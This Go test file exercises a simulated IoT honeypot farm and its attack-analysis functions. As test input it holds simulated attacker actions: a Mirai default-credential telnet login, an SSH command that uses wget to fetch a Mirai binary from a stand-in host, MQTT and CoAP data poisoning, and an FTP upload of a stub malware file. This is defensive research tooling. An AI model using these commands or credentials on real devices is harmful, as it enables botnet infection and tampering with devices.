package honeypot

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/ftp"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/ssh"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
)

// deploy builds the full six-honeypot farm on a fresh network.
func deploy(t *testing.T) (*netsim.Network, []*Honeypot, *Log) {
	t.Helper()
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	pots, log := DeployAll(n, netsim.MustParseIPv4("130.226.56.10"))
	return n, pots, log
}

func dialOK(t *testing.T, n *netsim.Network, src netsim.IPv4, dst netsim.Endpoint) *netsim.ServiceConn {
	t.Helper()
	conn, err := n.Dial(src, dst, netsim.ProbeOptions{})
	if err != nil {
		t.Fatalf("dial %v: %v", dst, err)
	}
	return conn
}

// loggedEvents drains the log and requires pred of what it held:
// conversations run inline, so every event is logged by the time the
// client's call returns.
func loggedEvents(t *testing.T, log *Log, pred func([]Event) bool) []Event {
	t.Helper()
	evs := log.Drain()
	if !pred(evs) {
		t.Fatalf("no logged event matched; have %d", len(evs))
	}
	return evs
}

func TestDeployAllProtocols(t *testing.T) {
	_, pots, _ := deploy(t)
	if len(pots) != 6 {
		t.Fatalf("%d honeypots", len(pots))
	}
	wantProtos := map[string][]iot.Protocol{
		"HosTaGe":  {iot.ProtoTelnet, iot.ProtoMQTT, iot.ProtoAMQP, iot.ProtoCoAP, iot.ProtoSSH, iot.ProtoHTTP, iot.ProtoSMB},
		"U-Pot":    {iot.ProtoUPnP},
		"Conpot":   {iot.ProtoSSH, iot.ProtoTelnet, iot.ProtoS7, iot.ProtoModbus, iot.ProtoHTTP},
		"ThingPot": {iot.ProtoXMPP, iot.ProtoHTTP},
		"Cowrie":   {iot.ProtoSSH, iot.ProtoTelnet},
		"Dionaea":  {iot.ProtoHTTP, iot.ProtoMQTT, iot.ProtoFTP, iot.ProtoSMB},
	}
	for _, hp := range pots {
		want := wantProtos[hp.Name]
		got := hp.Protocols()
		if len(got) != len(want) {
			t.Errorf("%s exposes %v, want %v", hp.Name, got, want)
		}
	}
}

func TestCowrieTelnetBruteForceLogged(t *testing.T) {
	n, pots, log := deploy(t)
	cowrie := pots[4]
	conn := dialOK(t, n, netsim.MustParseIPv4("203.0.113.66"), netsim.Endpoint{IP: cowrie.IP, Port: 23})
	defer conn.Close()
	ok, err := telnet.Login(context.Background(), conn, "root", "xc3511")
	if err != nil || !ok {
		t.Fatalf("Login = %v, %v (Cowrie must accept everything)", ok, err)
	}
	conn.Close()
	evs := loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Cowrie" && ev.Protocol == iot.ProtoTelnet &&
				ev.Username == "root" && ev.Password == "xc3511" {
				return true
			}
		}
		return false
	})
	_ = evs
}

func TestCowrieMalwareDropClassified(t *testing.T) {
	n, pots, log := deploy(t)
	cowrie := pots[4]
	conn := dialOK(t, n, netsim.MustParseIPv4("203.0.113.67"), netsim.Endpoint{IP: cowrie.IP, Port: 22})
	defer conn.Close()
	if _, err := ssh.GrabBanner(conn); err != nil {
		t.Fatal(err)
	}
	ok, err := ssh.Login(conn, "SSH-2.0-mirai", "admin", "admin")
	if err != nil || !ok {
		t.Fatalf("login: %v %v", ok, err)
	}
	for _, cmd := range []string{"wget http://198.51.100.9/mirai.arm7", "exit"} {
		if _, err := conn.Write([]byte(cmd + "\n")); err != nil {
			t.Fatal(err)
		}
	}
	loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Cowrie" && ev.Type == AttackMalware &&
				strings.Contains(ev.Detail, "mirai.arm7") {
				return true
			}
		}
		return false
	})
}

func TestHosTaGeMQTTPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.5"), netsim.Endpoint{IP: hostage.IP, Port: 1883})
	c := mqtt.NewClient(conn)
	if _, err := c.Connect("attacker", "", ""); err != nil {
		t.Fatal(err)
	}
	if err := c.Publish("arduino/sensors/smoke", []byte("999"), true); err != nil {
		t.Fatal(err)
	}
	c.Disconnect()
	loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoMQTT &&
				ev.Type == AttackPoisoning && ev.Detail == "arduino/sensors/smoke" {
				return true
			}
		}
		return false
	})
}

func TestUPotDiscoveryLogged(t *testing.T) {
	n, pots, log := deploy(t)
	upot := pots[1]
	resp := n.Query(netsim.MustParseIPv4("198.51.100.6"),
		netsim.Endpoint{IP: upot.IP, Port: 1900}, upnp.BuildMSearch("ssdp:all"), netsim.ProbeOptions{})
	if resp == nil {
		t.Fatal("U-Pot did not answer discovery")
	}
	if h, ok := upnp.ResponseHeaders(resp); !ok || !strings.Contains(h["USN"], "Socket-1_0") {
		t.Fatalf("headers %v", h)
	}
	loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "U-Pot" && ev.Protocol == iot.ProtoUPnP && ev.Type == AttackScan {
				return true
			}
		}
		return false
	})
}

func TestHosTaGeCoAPPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	client := coap.NewClient(9)
	resp := n.Query(netsim.MustParseIPv4("198.51.100.7"),
		netsim.Endpoint{IP: hostage.IP, Port: 5683}, client.Put("/config/name", []byte("pwn")), netsim.ProbeOptions{})
	if resp == nil {
		t.Fatal("no CoAP response")
	}
	loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoCoAP && ev.Type == AttackPoisoning {
				return true
			}
		}
		return false
	})
}

func TestDionaeaFTPMalwareCapture(t *testing.T) {
	n, pots, log := deploy(t)
	dionaea := pots[5]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.8"), netsim.Endpoint{IP: dionaea.IP, Port: 21})
	c := ftp.NewClient(conn)
	if _, err := c.ReadReply(); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", ""); !ok {
		t.Fatal("anonymous login failed")
	}
	payload := []byte("\x7fELF lokibot")
	if ok, err := c.Store("lokibot.bin", payload); err != nil || !ok {
		t.Fatalf("store: %v %v", ok, err)
	}
	c.Quit()
	loggedEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Dionaea" && ev.Type == AttackMalware &&
				string(ev.Payload) == string(payload) {
				return true
			}
		}
		return false
	})
}

func TestEventTimesUseSimClock(t *testing.T) {
	n, pots, log := deploy(t)
	clk := n.Clock()
	if err := clk.Set(clk.Now().Add(5 * 24 * time.Hour)); err != nil {
		t.Fatal(err)
	}
	upot := pots[1]
	n.Query(1, netsim.Endpoint{IP: upot.IP, Port: 1900}, upnp.BuildMSearch(""), netsim.ProbeOptions{})
	evs := loggedEvents(t, log, func(evs []Event) bool { return len(evs) > 0 })
	want := netsim.ExperimentStart.Add(5 * 24 * time.Hour)
	if !evs[0].Time.Equal(want) {
		t.Fatalf("event time %v, want %v", evs[0].Time, want)
	}
}

func TestAnalysisAggregations(t *testing.T) {
	base := netsim.ExperimentStart
	events := []Event{
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoTelnet, Src: 1, Type: AttackBruteForce, Username: "admin", Password: "admin"},
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoTelnet, Src: 1, Type: AttackBruteForce, Username: "admin", Password: "admin"},
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoSSH, Src: 1, Type: AttackBruteForce, Username: "root", Password: "root"},
		{Time: base.Add(25 * time.Hour), Honeypot: "U-Pot", Protocol: iot.ProtoUPnP, Src: 2, Type: AttackDoS},
	}
	counts := CountByHoneypotProtocol(events)
	if counts["Cowrie"][iot.ProtoTelnet] != 2 || counts["U-Pot"][iot.ProtoUPnP] != 1 {
		t.Fatalf("counts %+v", counts)
	}
	uniq := UniqueSourcesByHoneypot(events)
	if len(uniq["Cowrie"]) != 1 {
		t.Fatalf("unique %+v", uniq)
	}
	daily := DailyCounts(events, base, 3)
	if daily[0] != 3 || daily[1] != 1 {
		t.Fatalf("daily %v", daily)
	}
	creds := TopCredentials(events, iot.ProtoTelnet, 10)
	if len(creds) != 1 || creds[0].Count != 2 || creds[0].Username != "admin" {
		t.Fatalf("creds %+v", creds)
	}
	sharesByType := TypeShares(events)
	if sharesByType["U-Pot"][AttackDoS] != 1.0 {
		t.Fatalf("shares %+v", sharesByType)
	}
}

func TestMultistageDetection(t *testing.T) {
	base := netsim.ExperimentStart
	// Time-ordered, as Log.Drain returns a month; source 12 is excluded.
	events := []Event{
		{Time: base, Src: 9, Protocol: iot.ProtoTelnet},
		{Time: base, Src: 10, Protocol: iot.ProtoTelnet}, // single protocol
		{Time: base, Src: 11, Protocol: iot.ProtoSSH},
		{Time: base, Src: 12, Protocol: iot.ProtoTelnet},
		{Time: base.Add(time.Hour), Src: 11, Protocol: iot.ProtoSMB},
		{Time: base.Add(time.Hour), Src: 12, Protocol: iot.ProtoSMB},
		{Time: base.Add(2 * time.Hour), Src: 9, Protocol: iot.ProtoSMB},
		{Time: base.Add(3 * time.Hour), Src: 9, Protocol: iot.ProtoS7},
	}
	attacks := DetectMultistage(events, map[netsim.IPv4]bool{12: true})
	if len(attacks) != 2 || attacks[0].Src != 9 || attacks[1].Src != 11 {
		t.Fatalf("attacks %+v", attacks)
	}
	// Source 9's stages must be time-ordered: telnet → smb → s7.
	nine := attacks[0]
	want := []iot.Protocol{iot.ProtoTelnet, iot.ProtoSMB, iot.ProtoS7}
	if !slices.Equal(nine.Protocols, want) || nine.Events != 3 {
		t.Fatalf("source 9: stages %v over %d events, want %v over 3", nine.Protocols, nine.Events, want)
	}
	stages := StageCounts(attacks)
	if stages[0][iot.ProtoTelnet] != 1 || stages[0][iot.ProtoSSH] != 1 {
		t.Fatalf("stage 0 %v", stages[0])
	}
	if stages[1][iot.ProtoSMB] != 2 {
		t.Fatalf("stage 1 %v", stages[1])
	}
}

func TestFilterBySources(t *testing.T) {
	base := netsim.ExperimentStart
	events := []Event{
		{Time: base, Src: 1, Protocol: iot.ProtoTelnet},
		{Time: base, Src: 2, Protocol: iot.ProtoTelnet},
		{Time: base.Add(time.Hour), Src: 1, Protocol: iot.ProtoSMB},
		{Time: base.Add(time.Hour), Src: 2, Protocol: iot.ProtoSMB},
		{Time: base.Add(2 * time.Hour), Src: 2, Protocol: iot.ProtoSMB},
	}
	all := DetectMultistage(events, nil)
	if len(all) != 2 {
		t.Fatalf("unfiltered attacks %+v", all)
	}
	// Excluding source 1 drops all of its events and leaves source 2 whole.
	got := DetectMultistage(events, map[netsim.IPv4]bool{1: true})
	if len(got) != 1 || got[0].Src != 2 || got[0].Events != 3 {
		t.Fatalf("filtered %+v", got)
	}
	if got := DetectMultistage(events, map[netsim.IPv4]bool{1: true, 2: true}); len(got) != 0 {
		t.Fatalf("all sources excluded, got %+v", got)
	}
}
